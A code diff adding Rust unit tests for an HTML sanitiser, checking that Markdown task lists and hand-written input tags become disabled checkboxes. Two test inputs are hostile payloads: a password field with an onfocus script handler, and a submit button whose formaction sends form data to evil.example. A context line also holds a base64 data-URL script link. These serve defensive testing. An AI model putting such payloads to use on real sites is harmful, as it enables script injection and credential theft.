@@ -69,3 +69,42 @@ fn inline_raster_images_stay_and_other_data_urls_go() {
     let page = to_safe_html("[open](data:text/html;base64,PHNjcmlwdD4=)");
     assert!(!page.contains("data:"), "{page}");
 }
+
+/// The `<input …>` tags of `html`, each with its attributes sorted (the sanitiser's order varies).
+fn inputs(html: &str) -> Vec<Vec<&str>> {
+    html.match_indices("<input")
+        .map(|(at, _)| {
+            let tag = &html[at + "<input".len()..];
+            let mut attrs: Vec<&str> = tag[..tag.find('>').unwrap()].split_whitespace().collect();
+            attrs.sort_unstable();
+            attrs
+        })
+        .collect()
+}
+
+#[test]
+fn task_lists_render_as_disabled_checkboxes() {
+    let html = to_safe_html("- [ ] write the test\n- [x] see it fail\n- plain item");
+    assert_eq!(
+        inputs(&html),
+        [
+            vec![r#"disabled="""#, r#"type="checkbox""#],
+            vec![r#"checked="""#, r#"disabled="""#, r#"type="checkbox""#],
+        ],
+        "{html}"
+    );
+    assert!(
+        html.find("checked").unwrap() > html.find("write the test").unwrap(),
+        "the ticked box is the second item's: {html}"
+    );
+    assert!(html.contains("<li>plain item</li>"), "{html}");
+}
+
+#[test]
+fn hand_written_inputs_become_disabled_checkboxes() {
+    let html = to_safe_html(
+        r#"<input type="text" name="password" value="x" onfocus="alert(1)"> <input type="submit" formaction="https://evil.example/">"#,
+    );
+    let checkbox = vec![r#"disabled="""#, r#"type="checkbox""#];
+    assert_eq!(inputs(&html), [checkbox.clone(), checkbox], "{html}");
+}
